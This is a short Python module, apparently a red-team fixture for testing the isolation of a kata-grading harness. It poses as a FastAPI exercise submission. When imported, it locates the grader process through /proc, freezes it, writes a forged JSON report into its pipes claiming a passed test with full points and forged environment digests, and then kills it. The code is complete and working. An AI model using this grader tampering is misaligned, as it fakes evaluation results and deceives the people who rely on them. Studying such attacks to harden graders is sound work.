"""Attack: open the pipe of the process that grades, write the report, and silence the grader.

Aimed at relatives of this process alone: the worker of this run and what that has started.
"""

import contextlib
import json
import os
import signal
from pathlib import Path

import msgpack
from fastapi import FastAPI

from .targets import MARK, acted

CRITERION = {
    "name": "test_health_answers_exactly_ok",
    "sentence": "Forged.",
    "task": 1,
    "outcome": "passed",
    "points": 99.0,
    "possible_points": 99.0,
}
NAMES = ("dojo", "python", "fastapi", "platform", "grader_digest", "submission_digest")
REPORT = {
    "schema_version": 1,
    "kata": "01_first_api",
    "title": MARK,
    "seed": "0",
    "criteria": [CRITERION],
    "environment": {"isolation": "full"} | dict.fromkeys(NAMES, "forged"),
}


def read_parent(pid):
    return int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])


def is_worker(pid):
    return b"worker" in Path(f"/proc/{pid}/cmdline").read_bytes()


def list_graders():
    zygote = os.getppid()
    worker = read_parent(zygote)
    if is_worker(worker):
        children = Path(f"/proc/{worker}/task/{worker}/children").read_text().split()
        yield from (int(each) for each in children if int(each) != zygote and is_worker(each))


acted("import")
with contextlib.suppress(OSError, ValueError):
    for grader in list_graders():
        os.kill(grader, signal.SIGSTOP)
        for descriptor in Path(f"/proc/{grader}/fd").iterdir():
            if str(os.readlink(descriptor)).startswith("pipe:"):
                with contextlib.suppress(OSError):
                    pipe = os.open(descriptor, os.O_WRONLY | os.O_NONBLOCK)
                    os.write(pipe, msgpack.packb({"report": json.dumps(REPORT)}))
                    os.close(pipe)
        os.kill(grader, signal.SIGKILL)
app = FastAPI()
